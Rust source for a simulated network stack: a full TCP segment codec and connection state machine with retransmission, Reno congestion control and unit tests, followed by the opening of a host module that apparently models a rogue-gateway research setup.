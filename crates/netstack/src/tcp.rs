//! TCP: segment codec and connection state machine.
//!
//! This is a genuine (if compact) TCP: sequence space, cumulative ACKs,
//! retransmission timeout with Karn/Jacobson RTT estimation and
//! exponential backoff, triple-duplicate-ACK fast retransmit, Reno-style
//! slow start / congestion avoidance, receive-side reassembly of
//! out-of-order segments, and the full close handshake.
//!
//! Two experiments depend on TCP being real rather than a byte-pipe stub:
//!
//! * **E2 (netsed boundary misses)** — netsed rewrites per *segment*; the
//!   MSS and segmentation decisions below determine exactly which rewrite
//!   rules fail, reproducing the limitation §4.2 admits to.
//! * **E5 (TCP-over-TCP)** — the PPP-over-SSH tunnel's pathology is this
//!   state machine's retransmission behaviour stacked on itself.

use std::collections::{BTreeMap, VecDeque};

use bytes::{BufMut, Bytes, BytesMut};
use rogue_sim::{SimDuration, SimTime};

use crate::ip::{checksum_with_pseudo, checksum_with_pseudo_zeroed_at};
use crate::{proto, Ipv4Addr};

/// TCP header length (no options).
pub const HEADER_LEN: usize = 20;

/// Flag bits.
pub mod flags {
    /// No more data from sender.
    pub const FIN: u8 = 0x01;
    /// Synchronize sequence numbers.
    pub const SYN: u8 = 0x02;
    /// Reset the connection.
    pub const RST: u8 = 0x04;
    /// Push function.
    pub const PSH: u8 = 0x08;
    /// Acknowledgment field significant.
    pub const ACK: u8 = 0x10;
}

/// A parsed TCP segment.
#[derive(Clone, Debug, PartialEq)]
pub struct TcpSegment {
    /// Source port.
    pub src_port: u16,
    /// Destination port.
    pub dst_port: u16,
    /// Sequence number of the first payload byte (or of SYN/FIN).
    pub seq: u32,
    /// Acknowledgment number (valid when ACK flag set).
    pub ack: u32,
    /// Flag bits.
    pub flags: u8,
    /// Advertised receive window.
    pub window: u16,
    /// Payload bytes.
    pub payload: Bytes,
}

impl TcpSegment {
    /// Serialize, computing the pseudo-header checksum.
    pub fn encode(&self, src: Ipv4Addr, dst: Ipv4Addr) -> Bytes {
        let mut buf = BytesMut::with_capacity(HEADER_LEN + self.payload.len());
        buf.put_u16(self.src_port);
        buf.put_u16(self.dst_port);
        buf.put_u32(self.seq);
        buf.put_u32(self.ack);
        buf.put_u8((HEADER_LEN as u8 / 4) << 4);
        buf.put_u8(self.flags);
        buf.put_u16(self.window);
        buf.put_u16(0); // checksum placeholder
        buf.put_u16(0); // urgent
        buf.put_slice(&self.payload);
        let csum = checksum_with_pseudo(src, dst, proto::TCP, &buf);
        buf[16..18].copy_from_slice(&csum.to_be_bytes());
        buf.freeze()
    }

    /// Parse and verify the checksum; the payload is a zero-copy view
    /// of `bytes`.
    pub fn decode(src: Ipv4Addr, dst: Ipv4Addr, bytes: &Bytes) -> Option<TcpSegment> {
        if bytes.len() < HEADER_LEN {
            return None;
        }
        let data_off = ((bytes[12] >> 4) as usize) * 4;
        if data_off < HEADER_LEN || data_off > bytes.len() {
            return None;
        }
        let stored = u16::from_be_bytes([bytes[16], bytes[17]]);
        // Verify in place, with the checksum field counted as zero.
        if checksum_with_pseudo_zeroed_at(src, dst, proto::TCP, bytes, 16) != stored {
            return None;
        }
        Some(TcpSegment {
            src_port: u16::from_be_bytes([bytes[0], bytes[1]]),
            dst_port: u16::from_be_bytes([bytes[2], bytes[3]]),
            seq: u32::from_be_bytes(bytes[4..8].try_into().unwrap()),
            ack: u32::from_be_bytes(bytes[8..12].try_into().unwrap()),
            flags: bytes[13],
            window: u16::from_be_bytes([bytes[14], bytes[15]]),
            payload: bytes.slice(data_off..),
        })
    }
}

/// Wrapping "a < b" in sequence space.
fn seq_lt(a: u32, b: u32) -> bool {
    (a.wrapping_sub(b) as i32) < 0
}

/// Wrapping "a <= b".
fn seq_le(a: u32, b: u32) -> bool {
    !seq_lt(b, a)
}

/// Connection states (RFC 793 names).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum TcpState {
    /// SYN sent, awaiting SYN-ACK.
    SynSent,
    /// SYN received (passive open), awaiting ACK.
    SynRcvd,
    /// Data flows.
    Established,
    /// We closed first; FIN sent.
    FinWait1,
    /// Our FIN acked; awaiting peer FIN.
    FinWait2,
    /// Peer closed first.
    CloseWait,
    /// We closed after peer; FIN sent.
    LastAck,
    /// Simultaneous close.
    Closing,
    /// Final quiet period.
    TimeWait,
    /// Done.
    Closed,
}

/// Initial retransmission timeout.
const RTO_INITIAL: SimDuration = SimDuration::from_millis(1_000);
/// Minimum RTO.
const RTO_MIN: SimDuration = SimDuration::from_millis(200);
/// Maximum RTO.
const RTO_MAX: SimDuration = SimDuration::from_secs(60);
/// TIME-WAIT linger (shortened 2·MSL for simulation).
const TIME_WAIT: SimDuration = SimDuration::from_secs(1);
/// Send/receive buffer capacity.
const BUF_CAP: usize = 256 * 1024;
/// Give up after this many consecutive RTO expiries.
const MAX_RTX: u32 = 10;

/// One TCP connection endpoint.
pub struct TcpConnection {
    state: TcpState,
    /// Local (ip, port).
    pub local: (Ipv4Addr, u16),
    /// Remote (ip, port).
    pub remote: (Ipv4Addr, u16),
    mss: usize,

    // --- send side ---
    snd_una: u32,
    snd_nxt: u32,
    /// Unacked + unsent data; front byte has sequence number `snd_una`
    /// (+1 while our SYN is unacked).
    snd_buf: VecDeque<u8>,
    fin_queued: bool,
    fin_seq: Option<u32>,
    cwnd: usize,
    ssthresh: usize,
    peer_window: usize,
    dup_acks: u32,
    rto: SimDuration,
    srtt: Option<SimDuration>,
    rttvar: SimDuration,
    rtt_probe: Option<(u32, SimTime)>,
    rtx_deadline: Option<SimTime>,
    rtx_count: u32,

    // --- receive side ---
    rcv_nxt: u32,
    rcv_buf: VecDeque<u8>,
    ooo: BTreeMap<u32, Bytes>,
    peer_fin: Option<u32>,
    need_ack: bool,

    time_wait_until: SimTime,
    out: Vec<TcpSegment>,

    /// Total retransmitted segments (metrics for E5).
    pub retransmissions: u64,
    /// Total payload bytes delivered to the application.
    pub bytes_delivered: u64,
}

impl TcpConnection {
    /// Active open: emits a SYN.
    pub fn connect(
        now: SimTime,
        local: (Ipv4Addr, u16),
        remote: (Ipv4Addr, u16),
        iss: u32,
        mss: usize,
    ) -> TcpConnection {
        let mut c = TcpConnection::new(TcpState::SynSent, local, remote, iss, 0, mss);
        c.emit(now, iss, 0, flags::SYN, Bytes::new());
        c.snd_nxt = iss.wrapping_add(1);
        c.arm_rtx(now);
        c
    }

    /// Passive open from a received SYN: emits a SYN-ACK.
    pub fn accept(
        now: SimTime,
        local: (Ipv4Addr, u16),
        remote: (Ipv4Addr, u16),
        syn: &TcpSegment,
        iss: u32,
        mss: usize,
    ) -> TcpConnection {
        debug_assert!(syn.flags & flags::SYN != 0);
        let irs = syn.seq;
        let mut c = TcpConnection::new(
            TcpState::SynRcvd,
            local,
            remote,
            iss,
            irs.wrapping_add(1),
            mss,
        );
        c.peer_window = syn.window as usize;
        c.emit(now, iss, c.rcv_nxt, flags::SYN | flags::ACK, Bytes::new());
        c.snd_nxt = iss.wrapping_add(1);
        c.arm_rtx(now);
        c
    }

    fn new(
        state: TcpState,
        local: (Ipv4Addr, u16),
        remote: (Ipv4Addr, u16),
        iss: u32,
        rcv_nxt: u32,
        mss: usize,
    ) -> TcpConnection {
        assert!(mss >= 64, "MSS too small to be useful");
        TcpConnection {
            state,
            local,
            remote,
            mss,
            snd_una: iss,
            snd_nxt: iss,
            snd_buf: VecDeque::new(),
            fin_queued: false,
            fin_seq: None,
            cwnd: 2 * mss,
            ssthresh: 64 * 1024,
            peer_window: 65_535,
            dup_acks: 0,
            rto: RTO_INITIAL,
            srtt: None,
            rttvar: SimDuration::ZERO,
            rtt_probe: None,
            rtx_deadline: None,
            rtx_count: 0,
            rcv_nxt,
            rcv_buf: VecDeque::new(),
            ooo: BTreeMap::new(),
            peer_fin: None,
            need_ack: false,
            time_wait_until: SimTime::FOREVER,
            out: Vec::new(),
            retransmissions: 0,
            bytes_delivered: 0,
        }
    }

    /// Current state.
    pub fn state(&self) -> TcpState {
        self.state
    }

    /// Data can be queued / is flowing.
    pub fn is_established(&self) -> bool {
        self.state == TcpState::Established
    }

    /// Fully closed (all resources releasable).
    pub fn is_closed(&self) -> bool {
        self.state == TcpState::Closed
    }

    /// Peer sent FIN and every byte before it was delivered: reads will
    /// see EOF once the receive buffer drains.
    pub fn peer_closed(&self) -> bool {
        matches!(
            self.state,
            TcpState::CloseWait | TcpState::LastAck | TcpState::Closing | TcpState::TimeWait
        ) || self.state == TcpState::Closed
    }

    /// Bytes waiting in the receive buffer.
    pub fn recv_available(&self) -> usize {
        self.rcv_buf.len()
    }

    /// Room left in the send buffer.
    pub fn send_capacity(&self) -> usize {
        BUF_CAP - self.snd_buf.len()
    }

    /// Queue application data; returns bytes accepted.
    pub fn send(&mut self, data: &[u8]) -> usize {
        if self.fin_queued
            || matches!(
                self.state,
                TcpState::Closed | TcpState::TimeWait | TcpState::LastAck | TcpState::Closing
            )
        {
            return 0;
        }
        let n = data.len().min(self.send_capacity());
        self.snd_buf.extend(&data[..n]);
        n
    }

    /// Drain up to `max` bytes from the receive buffer.
    pub fn recv(&mut self, max: usize) -> Vec<u8> {
        let n = max.min(self.rcv_buf.len());
        let mut out = Vec::with_capacity(n);
        for _ in 0..n {
            out.push(self.rcv_buf.pop_front().expect("len checked"));
        }
        out
    }

    /// Graceful close: FIN goes out once buffered data drains. Closing
    /// during SYN-SENT with data already written keeps the connection
    /// alive until the data is delivered (BSD semantics); with nothing
    /// written it simply deletes the TCB.
    pub fn close(&mut self) {
        match self.state {
            TcpState::Established | TcpState::SynRcvd | TcpState::CloseWait => {
                self.fin_queued = true;
            }
            TcpState::SynSent => {
                if self.snd_buf.is_empty() {
                    self.state = TcpState::Closed;
                } else {
                    self.fin_queued = true;
                }
            }
            _ => {}
        }
    }

    /// Abortive close: RST now.
    pub fn abort(&mut self, now: SimTime) {
        if !matches!(self.state, TcpState::Closed | TcpState::TimeWait) {
            self.emit(
                now,
                self.snd_nxt,
                self.rcv_nxt,
                flags::RST | flags::ACK,
                Bytes::new(),
            );
        }
        self.state = TcpState::Closed;
    }

    /// Receive-window advertisement.
    fn rcv_window(&self) -> u16 {
        (BUF_CAP - self.rcv_buf.len()).min(65_535) as u16
    }

    fn emit(&mut self, _now: SimTime, seq: u32, ack: u32, fl: u8, payload: Bytes) {
        self.out.push(TcpSegment {
            src_port: self.local.1,
            dst_port: self.remote.1,
            seq,
            ack,
            flags: fl,
            window: self.rcv_window(),
            payload,
        });
    }

    fn arm_rtx(&mut self, now: SimTime) {
        self.rtx_deadline = Some(now + self.rto);
    }

    /// Bytes in flight.
    fn inflight(&self) -> usize {
        self.snd_nxt.wrapping_sub(self.snd_una) as usize
    }

    /// Process one incoming segment.
    pub fn on_segment(&mut self, now: SimTime, seg: &TcpSegment) {
        if self.state == TcpState::Closed {
            return;
        }
        if seg.flags & flags::RST != 0 {
            // Minimal validation: RST must be in-window.
            if self.state == TcpState::SynSent || seq_le(self.rcv_nxt, seg.seq) {
                self.state = TcpState::Closed;
            }
            return;
        }
        self.peer_window = seg.window as usize;

        match self.state {
            TcpState::SynSent => {
                if seg.flags & (flags::SYN | flags::ACK) == flags::SYN | flags::ACK
                    && seg.ack == self.snd_nxt
                {
                    self.rcv_nxt = seg.seq.wrapping_add(1);
                    self.snd_una = seg.ack;
                    self.state = TcpState::Established;
                    self.rtx_deadline = None;
                    self.rtx_count = 0;
                    self.need_ack = true;
                }
                return;
            }
            TcpState::SynRcvd => {
                if seg.flags & flags::ACK != 0 && seg.ack == self.snd_nxt {
                    self.snd_una = seg.ack;
                    self.state = TcpState::Established;
                    self.rtx_deadline = None;
                    self.rtx_count = 0;
                    // fall through: the ACK may carry data
                } else if seg.flags & flags::SYN != 0 {
                    // Duplicate SYN: re-answer.
                    let (iss, rcv) = (self.snd_una, self.rcv_nxt);
                    self.emit(now, iss, rcv, flags::SYN | flags::ACK, Bytes::new());
                    return;
                } else {
                    return;
                }
            }
            _ => {}
        }

        // --- ACK processing ---
        if seg.flags & flags::ACK != 0 {
            let ack = seg.ack;
            if seq_lt(self.snd_una, ack) && seq_le(ack, self.snd_nxt) {
                let newly = ack.wrapping_sub(self.snd_una) as usize;
                // Remove acked payload bytes (FIN occupies sequence space
                // but not buffer space).
                let fin_acked = self.fin_seq.is_some_and(|f| seq_lt(f, ack));
                let payload_acked = newly - usize::from(fin_acked);
                for _ in 0..payload_acked.min(self.snd_buf.len()) {
                    self.snd_buf.pop_front();
                }
                self.snd_una = ack;
                self.dup_acks = 0;
                self.rtx_count = 0;
                // RTT sample (Karn: only if the probe wasn't retransmitted;
                // we clear the probe on retransmission).
                if let Some((pseq, sent)) = self.rtt_probe {
                    if seq_lt(pseq, ack) {
                        self.update_rtt(now.since(sent));
                        self.rtt_probe = None;
                    }
                }
                // Congestion window growth.
                if self.cwnd < self.ssthresh {
                    self.cwnd += self.mss; // slow start
                } else {
                    self.cwnd += (self.mss * self.mss / self.cwnd).max(1);
                }
                if self.inflight() == 0 {
                    self.rtx_deadline = None;
                } else {
                    self.arm_rtx(now);
                }

                // Close-handshake transitions on FIN ack.
                if fin_acked {
                    match self.state {
                        TcpState::FinWait1 => self.state = TcpState::FinWait2,
                        TcpState::Closing => self.enter_time_wait(now),
                        TcpState::LastAck => self.state = TcpState::Closed,
                        _ => {}
                    }
                }
            } else if ack == self.snd_una
                && seg.payload.is_empty()
                && self.inflight() > 0
                && seg.flags & (flags::SYN | flags::FIN) == 0
            {
                self.dup_acks += 1;
                if self.dup_acks == 3 {
                    // Fast retransmit.
                    self.ssthresh = (self.inflight() / 2).max(2 * self.mss);
                    self.cwnd = self.ssthresh;
                    self.retransmit_head(now);
                }
            }
        }

        // --- payload processing ---
        if !seg.payload.is_empty() && self.may_receive_data() {
            self.ingest(seg.seq, seg.payload.clone());
        }

        // --- FIN processing ---
        if seg.flags & flags::FIN != 0 {
            let fin_seq = seg.seq.wrapping_add(seg.payload.len() as u32);
            self.peer_fin = Some(fin_seq);
        }
        if let Some(fin_seq) = self.peer_fin {
            if fin_seq == self.rcv_nxt {
                self.rcv_nxt = self.rcv_nxt.wrapping_add(1);
                self.peer_fin = None;
                self.need_ack = true;
                match self.state {
                    TcpState::Established => self.state = TcpState::CloseWait,
                    TcpState::FinWait1 => self.state = TcpState::Closing,
                    TcpState::FinWait2 => self.enter_time_wait(now),
                    _ => {}
                }
            }
        }
    }

    fn may_receive_data(&self) -> bool {
        matches!(
            self.state,
            TcpState::Established | TcpState::FinWait1 | TcpState::FinWait2
        )
    }

    fn ingest(&mut self, seq: u32, mut payload: Bytes) {
        let mut seq = seq;
        // Trim anything we already have.
        if seq_lt(seq, self.rcv_nxt) {
            let skip = self.rcv_nxt.wrapping_sub(seq) as usize;
            if skip >= payload.len() {
                self.need_ack = true; // pure duplicate
                return;
            }
            payload = payload.slice(skip..);
            seq = self.rcv_nxt;
        }
        self.need_ack = true;
        if seq == self.rcv_nxt {
            self.append_in_order(payload);
            // Drain contiguous out-of-order segments.
            while let Some((&oseq, _)) = self.ooo.first_key_value() {
                if seq_lt(self.rcv_nxt, oseq) {
                    break;
                }
                let (oseq, data) = self.ooo.pop_first().expect("checked");
                let skip = self.rcv_nxt.wrapping_sub(oseq) as usize;
                if skip < data.len() {
                    let tail = data.slice(skip..);
                    self.append_in_order(tail);
                }
            }
        } else {
            // Future data: stash (bounded).
            if self.ooo.len() < 64 {
                self.ooo.entry(seq).or_insert(payload);
            }
        }
    }

    fn append_in_order(&mut self, data: Bytes) {
        let room = BUF_CAP - self.rcv_buf.len();
        let take = room.min(data.len());
        self.rcv_buf.extend(&data[..take]);
        self.rcv_nxt = self.rcv_nxt.wrapping_add(take as u32);
        self.bytes_delivered += take as u64;
        // Anything beyond `room` is dropped; the shrunken advertised
        // window stops a sane peer from overrunning us anyway.
    }

    fn update_rtt(&mut self, sample: SimDuration) {
        match self.srtt {
            None => {
                self.srtt = Some(sample);
                self.rttvar = sample.halved();
            }
            Some(srtt) => {
                let diff = if srtt > sample {
                    srtt - sample
                } else {
                    sample - srtt
                };
                // rttvar = 3/4 rttvar + 1/4 |diff|
                self.rttvar =
                    SimDuration::from_nanos((self.rttvar.as_nanos() * 3 + diff.as_nanos()) / 4);
                // srtt = 7/8 srtt + 1/8 sample
                self.srtt = Some(SimDuration::from_nanos(
                    (srtt.as_nanos() * 7 + sample.as_nanos()) / 8,
                ));
            }
        }
        let srtt = self.srtt.expect("just set");
        self.rto = (srtt + self.rttvar.saturating_mul(4)).clamp(RTO_MIN, RTO_MAX);
    }

    fn enter_time_wait(&mut self, now: SimTime) {
        self.state = TcpState::TimeWait;
        self.time_wait_until = now + TIME_WAIT;
        self.rtx_deadline = None;
    }

    /// Retransmit the segment at `snd_una`.
    fn retransmit_head(&mut self, now: SimTime) {
        self.retransmissions += 1;
        self.rtt_probe = None; // Karn's rule
        match self.state {
            TcpState::SynSent => {
                let (iss, _) = (self.snd_una, ());
                self.emit(now, iss, 0, flags::SYN, Bytes::new());
            }
            TcpState::SynRcvd => {
                let (iss, rcv) = (self.snd_una, self.rcv_nxt);
                self.emit(now, iss, rcv, flags::SYN | flags::ACK, Bytes::new());
            }
            _ => {
                // Data (and/or FIN) retransmission from snd_una.
                let buffered = self.snd_buf.len();
                let una_off = 0usize;
                let len = buffered.min(self.mss);
                if len > 0 {
                    let chunk: Vec<u8> = self
                        .snd_buf
                        .iter()
                        .skip(una_off)
                        .take(len)
                        .copied()
                        .collect();
                    let (seq, ack) = (self.snd_una, self.rcv_nxt);
                    let fl = flags::ACK | flags::PSH;
                    self.emit(now, seq, ack, fl, Bytes::from(chunk));
                    self.need_ack = false;
                } else if let Some(fin_seq) = self.fin_seq {
                    let ack = self.rcv_nxt;
                    self.emit(now, fin_seq, ack, flags::FIN | flags::ACK, Bytes::new());
                    self.need_ack = false;
                }
            }
        }
        self.arm_rtx(now);
    }

    /// Earliest instant this connection needs a poll.
    pub fn next_wake(&self) -> SimTime {
        let mut wake = SimTime::FOREVER;
        if let Some(d) = self.rtx_deadline {
            wake = wake.min(d);
        }
        if self.state == TcpState::TimeWait {
            wake = wake.min(self.time_wait_until);
        }
        wake
    }

    /// True when there is transmission work that poll would do right now
    /// (new data in window, pending ACK, FIN to send).
    pub fn wants_poll(&self) -> bool {
        if self.need_ack {
            return true;
        }
        if matches!(self.state, TcpState::Established | TcpState::CloseWait) {
            let sent_not_acked = self.inflight();
            let unsent = self.snd_buf.len().saturating_sub(sent_not_acked);
            if unsent > 0 && sent_not_acked < self.cwnd.min(self.peer_window.max(self.mss)) {
                return true;
            }
            if self.fin_queued && self.fin_seq.is_none() && unsent == 0 {
                return true;
            }
        }
        false
    }

    /// Drive timers and the transmit window.
    pub fn poll(&mut self, now: SimTime) {
        // TIME-WAIT expiry.
        if self.state == TcpState::TimeWait && now >= self.time_wait_until {
            self.state = TcpState::Closed;
            return;
        }
        // RTO.
        if let Some(d) = self.rtx_deadline {
            if now >= d {
                self.rtx_count += 1;
                if self.rtx_count > MAX_RTX {
                    self.state = TcpState::Closed;
                    return;
                }
                self.rto = self.rto.doubled().clamp(RTO_MIN, RTO_MAX);
                self.ssthresh = (self.inflight() / 2).max(2 * self.mss);
                self.cwnd = self.mss;
                self.dup_acks = 0;
                self.retransmit_head(now);
            }
        }
        // New data within the windows.
        if matches!(
            self.state,
            TcpState::Established | TcpState::CloseWait | TcpState::FinWait1
        ) {
            let window = self.cwnd.min(self.peer_window.max(1));
            loop {
                let inflight = self.inflight();
                let fin_inflight = usize::from(self.fin_seq.is_some());
                let data_inflight = inflight - fin_inflight;
                let unsent = self.snd_buf.len().saturating_sub(data_inflight);
                if unsent == 0 || inflight >= window || self.fin_seq.is_some() {
                    break;
                }
                let len = unsent.min(self.mss).min(window - inflight);
                if len == 0 {
                    break;
                }
                let chunk: Vec<u8> = self
                    .snd_buf
                    .iter()
                    .skip(data_inflight)
                    .take(len)
                    .copied()
                    .collect();
                let seq = self.snd_nxt;
                let ack = self.rcv_nxt;
                self.emit(now, seq, ack, flags::ACK | flags::PSH, Bytes::from(chunk));
                self.snd_nxt = self.snd_nxt.wrapping_add(len as u32);
                if self.rtt_probe.is_none() {
                    self.rtt_probe = Some((seq, now));
                }
                self.need_ack = false;
                self.arm_rtx(now);
            }
            // FIN once the buffer drained.
            if self.fin_queued
                && self.fin_seq.is_none()
                && self.snd_buf.len() == self.inflight()
                && self.snd_buf.is_empty()
            {
                let seq = self.snd_nxt;
                let ack = self.rcv_nxt;
                self.emit(now, seq, ack, flags::FIN | flags::ACK, Bytes::new());
                self.fin_seq = Some(seq);
                self.snd_nxt = self.snd_nxt.wrapping_add(1);
                self.need_ack = false;
                self.state = match self.state {
                    TcpState::CloseWait => TcpState::LastAck,
                    _ => TcpState::FinWait1,
                };
                self.arm_rtx(now);
            }
        }
        // Pending pure ACK.
        if self.need_ack && self.state != TcpState::Closed {
            let (seq, ack) = (self.snd_nxt, self.rcv_nxt);
            self.emit(now, seq, ack, flags::ACK, Bytes::new());
            self.need_ack = false;
        }
    }

    /// Take segments produced since the last call.
    pub fn take_outgoing(&mut self) -> Vec<TcpSegment> {
        std::mem::take(&mut self.out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const A: (Ipv4Addr, u16) = (Ipv4Addr::new(10, 0, 0, 1), 1000);
    const B: (Ipv4Addr, u16) = (Ipv4Addr::new(10, 0, 0, 2), 80);

    /// A perfect-wire harness: shuttles segments between two connections.
    struct Wire {
        a: TcpConnection,
        b: TcpConnection,
        now: SimTime,
    }

    impl Wire {
        fn open() -> Wire {
            let now = SimTime::ZERO;
            let mut a = TcpConnection::connect(now, A, B, 1000, 1460);
            let syn = a.take_outgoing().remove(0);
            let mut b = TcpConnection::accept(now, B, A, &syn, 9000, 1460);
            let synack = b.take_outgoing().remove(0);
            a.on_segment(now, &synack);
            let mut w = Wire { a, b, now };
            w.pump(20);
            assert_eq!(w.a.state(), TcpState::Established);
            assert_eq!(w.b.state(), TcpState::Established);
            w
        }

        /// Exchange until quiescent (or `rounds` exhausted); drops nothing.
        fn pump(&mut self, rounds: usize) {
            for _ in 0..rounds {
                self.now += SimDuration::from_millis(1);
                self.a.poll(self.now);
                self.b.poll(self.now);
                let from_a = self.a.take_outgoing();
                let from_b = self.b.take_outgoing();
                if from_a.is_empty() && from_b.is_empty() {
                    break;
                }
                for s in from_a {
                    self.b.on_segment(self.now, &s);
                }
                for s in from_b {
                    self.a.on_segment(self.now, &s);
                }
            }
        }
    }

    #[test]
    fn handshake_establishes() {
        let w = Wire::open();
        assert_eq!(w.a.retransmissions, 0);
        assert_eq!(w.b.retransmissions, 0);
    }

    #[test]
    fn bulk_transfer_delivers_in_order() {
        let mut w = Wire::open();
        let data: Vec<u8> = (0..50_000u32).map(|i| (i % 251) as u8).collect();
        assert_eq!(w.a.send(&data), data.len());
        w.pump(500);
        let got = w.b.recv(usize::MAX);
        assert_eq!(got.len(), data.len());
        assert_eq!(got, data);
    }

    #[test]
    fn bidirectional_transfer() {
        let mut w = Wire::open();
        w.a.send(b"request");
        w.b.send(b"response data");
        w.pump(50);
        assert_eq!(w.b.recv(usize::MAX), b"request");
        assert_eq!(w.a.recv(usize::MAX), b"response data");
    }

    #[test]
    fn segments_respect_mss() {
        let mut w = Wire::open();
        let data = vec![7u8; 10_000];
        w.a.send(&data);
        w.a.poll(w.now + SimDuration::from_millis(1));
        let segs = w.a.take_outgoing();
        assert!(!segs.is_empty());
        for s in &segs {
            assert!(s.payload.len() <= 1460, "segment over MSS");
        }
    }

    #[test]
    fn graceful_close_both_sides() {
        let mut w = Wire::open();
        w.a.send(b"bye");
        w.a.close();
        w.pump(50);
        assert_eq!(w.b.recv(usize::MAX), b"bye");
        assert!(w.b.peer_closed());
        w.b.close();
        w.pump(50);
        assert_eq!(w.b.state(), TcpState::Closed);
        // A is in TIME-WAIT; expires after the linger.
        assert_eq!(w.a.state(), TcpState::TimeWait);
        let later = w.now + TIME_WAIT + SimDuration::from_millis(10);
        w.a.poll(later);
        assert_eq!(w.a.state(), TcpState::Closed);
    }

    #[test]
    fn lost_segment_retransmitted_by_rto() {
        let mut w = Wire::open();
        w.a.send(b"important");
        w.a.poll(w.now + SimDuration::from_millis(1));
        let lost = w.a.take_outgoing();
        assert!(!lost.is_empty());
        // Drop them. Advance past the RTO.
        let later = w.now + SimDuration::from_millis(1) + RTO_INITIAL + SimDuration::from_millis(1);
        w.a.poll(later);
        let rtx = w.a.take_outgoing();
        assert!(!rtx.is_empty(), "RTO must fire");
        assert_eq!(w.a.retransmissions, 1);
        // Deliver the retransmission; data arrives.
        for s in rtx {
            w.b.on_segment(later, &s);
        }
        assert_eq!(w.b.recv(usize::MAX), b"important");
    }

    #[test]
    fn triple_dupack_fast_retransmit() {
        let mut w = Wire::open();
        // Open the window so 5 segments go out in one poll.
        w.a.cwnd = 100_000;
        let data = vec![1u8; 1460 * 5];
        w.a.send(&data);
        w.a.poll(w.now + SimDuration::from_millis(1));
        let mut segs = w.a.take_outgoing();
        assert!(segs.len() >= 2, "need at least 2 segments in flight");
        // Lose the first; deliver the rest => dup ACKs from b.
        segs.remove(0);
        let t = w.now + SimDuration::from_millis(2);
        let mut dups = Vec::new();
        for s in segs {
            w.b.on_segment(t, &s);
            w.b.poll(t);
            dups.extend(w.b.take_outgoing());
        }
        assert!(dups.len() >= 3, "expected >=3 dup ACKs, got {}", dups.len());
        for d in dups {
            w.a.on_segment(t, &d);
        }
        assert_eq!(w.a.retransmissions, 1, "fast retransmit fired before RTO");
        let rtx = w.a.take_outgoing();
        assert!(rtx.iter().any(|s| !s.payload.is_empty()));
    }

    #[test]
    fn out_of_order_reassembly() {
        let mut w = Wire::open();
        w.a.cwnd = 100_000;
        let data = vec![9u8; 1460 * 3];
        w.a.send(&data);
        w.a.poll(w.now + SimDuration::from_millis(1));
        let mut segs = w.a.take_outgoing();
        segs.reverse(); // deliver out of order
        let t = w.now + SimDuration::from_millis(2);
        for s in segs {
            w.b.on_segment(t, &s);
        }
        assert_eq!(w.b.recv(usize::MAX).len(), data.len());
    }

    #[test]
    fn duplicate_data_not_delivered_twice() {
        let mut w = Wire::open();
        w.a.send(b"once");
        w.a.poll(w.now + SimDuration::from_millis(1));
        let segs = w.a.take_outgoing();
        let t = w.now + SimDuration::from_millis(2);
        for s in &segs {
            w.b.on_segment(t, s);
        }
        for s in &segs {
            w.b.on_segment(t, s); // replay
        }
        assert_eq!(w.b.recv(usize::MAX), b"once");
    }

    #[test]
    fn rst_kills_connection() {
        let mut w = Wire::open();
        w.b.abort(w.now);
        let rst = w.b.take_outgoing();
        assert!(rst.iter().any(|s| s.flags & flags::RST != 0));
        for s in rst {
            w.a.on_segment(w.now, &s);
        }
        assert_eq!(w.a.state(), TcpState::Closed);
    }

    #[test]
    fn syn_retransmitted_when_lost() {
        let now = SimTime::ZERO;
        let mut c = TcpConnection::connect(now, A, B, 42, 1460);
        let _lost = c.take_outgoing();
        let later = now + RTO_INITIAL + SimDuration::from_millis(1);
        c.poll(later);
        let rtx = c.take_outgoing();
        assert!(rtx.iter().any(|s| s.flags & flags::SYN != 0));
        assert_eq!(c.retransmissions, 1);
    }

    #[test]
    fn connection_gives_up_after_max_retries() {
        let now = SimTime::ZERO;
        let mut c = TcpConnection::connect(now, A, B, 42, 1460);
        c.take_outgoing();
        let mut t;
        for _ in 0..=MAX_RTX + 1 {
            t = c.next_wake();
            if t == SimTime::FOREVER {
                break;
            }
            c.poll(t);
            c.take_outgoing();
        }
        assert_eq!(c.state(), TcpState::Closed);
    }

    #[test]
    fn codec_roundtrip_and_checksum() {
        let s = TcpSegment {
            src_port: 1234,
            dst_port: 80,
            seq: 0xDEADBEEF,
            ack: 0x01020304,
            flags: flags::ACK | flags::PSH,
            window: 4096,
            payload: Bytes::from_static(b"GET / HTTP/1.0\r\n\r\n"),
        };
        let bytes = s.encode(A.0, B.0);
        assert_eq!(TcpSegment::decode(A.0, B.0, &bytes).unwrap(), s);
        // Tampering breaks the checksum.
        let mut evil = bytes.to_vec();
        evil[25] ^= 0x01;
        assert!(TcpSegment::decode(A.0, B.0, &evil.into()).is_none());
        // Wrong pseudo-header breaks it too. (Note: merely *swapping*
        // src/dst keeps the one's-complement sum identical, so use a
        // genuinely different address.)
        assert!(TcpSegment::decode(Ipv4Addr::new(9, 9, 9, 9), B.0, &bytes).is_none());
    }

    #[test]
    fn send_after_close_rejected() {
        let mut w = Wire::open();
        w.a.close();
        w.pump(50);
        assert_eq!(w.a.send(b"late"), 0);
    }

    #[test]
    fn cwnd_grows_during_transfer() {
        let mut w = Wire::open();
        let initial_cwnd = w.a.cwnd;
        let data = vec![3u8; 100_000];
        w.a.send(&data);
        w.pump(500);
        assert_eq!(w.b.recv(usize::MAX).len(), data.len());
        assert!(w.a.cwnd > initial_cwnd, "slow start must open the window");
    }
}
