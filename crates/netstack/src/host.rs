//! A poll-driven IP host: interfaces, ARP, routing, forwarding, NAT and
//! sockets.
//!
//! The paper's gateway is this struct with `ip_forward = true`,
//! `proxy_arp = true`, two interfaces, three host routes and one DNAT
//! rule (Appendix A of the paper, line for line). Victims, web servers,
//! the VPN endpoint and the corporate router are the same struct with
//! different knobs.

use std::collections::{HashMap, VecDeque};

use bytes::Bytes;
use rogue_dot11::MacAddr;
use rogue_sim::{SimRng, SimTime};

use crate::arp::{ArpCache, ArpOp, ArpPacket, ARP_RETRY};
use crate::ethernet::EthFrame;
use crate::icmp::IcmpMessage;
use crate::ip::Ipv4Packet;
use crate::netfilter::Netfilter;
use crate::routing::{broadcast_addr, RoutingTable};
use crate::socket::{Socket, SocketHandle, SocketSet};
use crate::tcp::{flags, TcpConnection, TcpSegment, TcpState};
use crate::udp::UdpDatagram;
use crate::{proto, Ipv4Addr};

/// Interface index within a host.
pub type IfIndex = usize;

